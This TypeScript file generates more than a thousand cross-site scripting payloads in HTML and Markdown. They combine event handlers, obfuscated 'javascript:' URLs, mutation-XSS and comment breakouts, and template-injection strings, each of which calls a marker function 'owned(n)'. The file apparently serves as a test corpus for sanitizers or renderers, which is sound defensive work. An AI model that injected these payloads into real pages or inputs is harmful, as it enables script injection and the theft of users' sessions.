/** What a payload does when it runs; the number says which one it is. */
const run = (number: number): string => `owned(${number})`;

const ELEMENTS = [
  ...['img src=x', 'svg', 'video src=x', 'audio src=x', 'body', 'input autofocus', 'details open', 'iframe', 'math'],
  ...['object data=x', 'embed src=x', 'link rel=stylesheet href=x', 'style', 'marquee', 'select autofocus', 'table'],
  ...['textarea autofocus', 'a href=#', 'p tabindex=0 autofocus', 'form', 'button autofocus', 'dialog open', 'x'],
] as const;

const EVENTS = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onanimationstart'],
  ...['ontransitionend', 'onbegin', 'onscroll', 'onwheel', 'onbeforeinput', 'oncopy', 'onpaste', 'ondrag', 'onstart'],
  ...['onpageshow', 'onhashchange', 'onbeforematch', 'onmousedown'],
] as const;

/** The same attribute written in ways that filters have overlooked. */
const WRITTEN: readonly ((element: string, event: string, code: string) => string)[] = [
  (element, event, code) => `<${element} ${event}='${code}'`,
  (element, event, code) => `<${element.replace(' ', '/')}/${event}=${code}>`,
  (element, event, code) => `<${element.toUpperCase()} ${event.toUpperCase()}=${code}>`,
  (element, event, code) => `<${element}\n${event}\t=\n"${code}">`,
  (element, event, code) => `<${element} ${event}=&#${code.charCodeAt(0)};${code.slice(1)}>`,
  (element, event, code) => `</p></div><<${element} x="><" ${event}="${code}">`,
];

/** Addresses that run, written in ways that filters have overlooked. */
const ADDRESSES: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `java&#x09;script:${code}`,
  (code) => `java&#10;script:${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `&#x6A&#x61vascript:${code}`,
  (code) => `&#1;javascript:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>top.${code}</script>`,
  (code) => `data:image/svg+xml,<svg onload=top.${code}>`,
  (code) => `blob:javascript:${code}`,
];

const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<map><area href="${address}"></map>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/>x</a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[x][r]\n\n[r]: ${address}\n\n`,
];

const SCRIPTS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT >`,
  (code) => `<script\n>${code}</script\n>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${code}"/></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style></mglyph></table></mtext></math>`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<textarea></textarea><img src=x onerror=${code}></textarea>`,
  (code) => `<title><a title="</title><img src=x onerror=${code}>"></title>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!--!><script>${code}</script>--!>`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<?xml ><img src=x onerror=${code}>?>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<style>@import 'javascript:${code}';</style>`,
  (code) => `<p style="background:url(javascript:${code})">x</p>`,
  (code) => `\`\`\`html\n<script>${code}</script>\n\`\`\`\n`,
  (code) => `\`</code><script>${code}</script>\``,
  (code) => `<p>\n\n<script>${code}</script>\n\n</p>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'-${code}-'`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `</script><script>${code}</script>`,
  (code) => `\\u003cscript>${code}\\u003c/script>`,
];

const MAKERS: readonly ((code: string) => string)[] = [
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => (code: string) => `<${element} ${event}="${code}">`)),
  ...WRITTEN.flatMap((write) =>
    ELEMENTS.flatMap((element) => ['onerror', 'onload'].map((event) => (code: string) => write(element, event, code))),
  ),
  ...CARRIERS.flatMap((carry) => ADDRESSES.map((write) => (code: string) => carry(write(code)))),
  ...SCRIPTS,
];

/** A text that tries to run a script, after a plain word that is seen wherever the text is shown. */
export type ScriptPayload = { readonly word: string; readonly text: string };

/** More than a thousand of them, in HTML and in Markdown. */
export const SCRIPT_PAYLOADS: readonly ScriptPayload[] = MAKERS.map((make, number) => ({
  word: `Payload${number}.`,
  text: `Payload${number}. ${make(run(number))}`,
}));
